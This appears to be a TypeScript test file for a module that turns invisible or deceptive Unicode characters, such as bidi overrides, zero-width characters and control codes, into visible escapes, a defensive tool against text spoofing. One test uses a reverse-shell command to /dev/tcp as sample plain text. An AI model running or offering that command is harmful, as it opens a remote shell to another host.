import fc from 'fast-check';
import { expect, test } from 'vitest';

import { shownParts, visibleParts, visibleText } from './visible-text.ts';

const UNSEEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Co}\p{Default_Ignorable_Code_Point}\u2800]/u;

test.each([
  ['a bidi override', 'exe.\u202egpj', 'exe.\\u{202e}gpj'],
  ['isolates', '\u2066x\u2069', '\\u{2066}x\\u{2069}'],
  ['what has no width', 'cu\u200brl\ufeff\u2060', 'cu\\u{200b}rl\\u{feff}\\u{2060}'],
  ['line breaks and escapes', 'a\nb\r\t\u001b[31m\u0000', 'a\\nb\\r\\t\\x1b[31m\\x00'],
  ['line separators', 'a\u2028b', 'a\\u{2028}b'],
  ['spaces that are not the space', 'a\u00a0b\u3000c d', 'a\\xa0b\\u{3000}c d'],
  ['letters that show nothing', 'a\u3164b\u115fc\u2800d', 'a\\u{3164}b\\u{115f}c\\u{2800}d'],
  ['variation selectors and tags', 'a\ufe0f\u{e0041}', 'a\\u{fe0f}\\u{e0041}'],
  ['half a surrogate pair', 'a\ud800b', 'a\\u{d800}b'],
  ['the third mark on a letter', 'e\u0301\u0301\u0301', 'e\u0301\u0301\\u{301}'],
])('%s is shown as an escape', (_, text, shown) => {
  expect(visibleText(text)).toBe(shown);
});

test('what people write stays as it is', () => {
  for (const text of ['bash -i >& /dev/tcp/10.0.0.1/4444', '支付服务 启动了 bash', 'né à Zürich 🚨']) {
    expect(visibleParts(text)).toEqual([{ text, isEscape: false }]);
  }
});

test('an escape that was written is not an escape that was made', () => {
  expect(visibleParts('\\u{202e}\u202e')).toEqual([
    { text: '\\u{202e}', isEscape: false },
    { text: '\\u{202e}', isEscape: true },
  ]);
});

test('nothing unseen is left of any text, and the parts are the whole', () => {
  fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => {
    const parts = visibleParts(text);
    expect(parts.map((part) => part.text).join('')).toBe(visibleText(text));
    expect(UNSEEN.test(visibleText(text))).toBe(false);
  }));
});

test('no text takes more room than it is given, and says that it was cut', () => {
  fc.assert(fc.property(fc.string({ unit: 'binary' }), fc.nat(50), (text, charactersMax) => {
    const { parts, isCut } = shownParts(text, charactersMax);
    const shown = parts.map((part) => part.text).join('');
    expect(shown.length).toBeLessThanOrEqual(charactersMax);
    expect(isCut).toBe(shown !== visibleText(text));
  }));
});
